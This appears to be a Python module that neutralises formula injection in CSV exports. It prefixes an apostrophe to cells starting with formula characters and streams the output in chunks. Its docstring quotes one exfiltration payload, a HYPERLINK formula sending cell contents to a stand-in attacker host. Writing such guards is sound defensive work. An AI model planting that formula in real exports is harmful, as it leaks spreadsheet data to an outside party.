"""The one guard for every CSV the platform writes: cells that a spreadsheet would run.

Excel, LibreOffice and Google Sheets treat a cell that starts with = + - @ as a formula (and a
leading tab or carriage return is dropped before that check), so a delegate who calls
themselves `=HYPERLINK("http://evil.example?"&A1)` would run code in an organiser's
spreadsheet. Such a cell gets a leading apostrophe: shown as text, the value still readable.
Every CSV export (registrations, audit log ...) is written by `stream_csv`, which makes every
cell safe, so a new export cannot forget it.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CHUNK_CHARS = 64 * 1024


def csv_safe(value: object) -> str:
    """The value as a CSV cell, with an apostrophe before a formula start."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_row(values: Iterable[object]) -> list[str]:
    return [csv_safe(value) for value in values]


def stream_csv(header: Iterable[str], rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """The header and each row, every cell safe, in pieces of about CHUNK_CHARS, so a large
    export streams instead of being built in memory."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(header)
    for row in rows:
        writer.writerow(safe_row(row))
        if buffer.tell() > CHUNK_CHARS:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()
